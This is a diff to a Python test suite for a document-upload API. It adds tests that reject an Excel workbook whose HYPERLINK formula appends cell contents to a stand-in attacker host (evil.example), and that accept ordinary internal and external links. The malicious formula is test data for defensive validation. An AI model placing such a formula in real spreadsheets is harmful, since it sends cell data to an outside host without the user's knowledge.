@@ -5,6 +5,7 @@ import time
 from datetime import UTC, datetime
 from pathlib import Path
 
+import openpyxl
 import pytest
 import sqlalchemy as sa
 import sqlalchemy.orm
@@ -110,6 +111,21 @@ async def test_upload_422_for_what_no_office_keeps(county, content: bytes, code:
         {"pointer": "/file", "code": code, "message": answer.json()["errors"][0]["message"]}
     ]
     assert answer.json()["errors"][0]["message"] != code
+
+
+def workbook(formula: str) -> bytes:
+    book, made = openpyxl.Workbook(), io.BytesIO()
+    book.active.append(["柳塘村", formula])
+    book.save(made)
+    return made.getvalue()
+
+
+async def test_upload_422_for_a_workbook_whose_link_takes_cells_along_and_201_for_plain_links(county) -> None:
+    client = county.client("clerk")
+    out = await upload(client, county.village, workbook('=HYPERLINK("http://evil.example/"&A1,"点这里")'), "台账.xlsx")
+    assert (out.status_code, out.json()["errors"][0]["code"]) == (422, "file_with_active_content")
+    for formula in ('=HYPERLINK("#Sheet!A1","返回")', '=HYPERLINK("https://www.example.gov.cn/","通知")'):
+        assert (await upload(client, county.village, workbook(formula), "台账.xlsx")).status_code == 201
 
 
 async def test_upload_201_a_name_with_a_path_keeps_its_last_part(county) -> None:
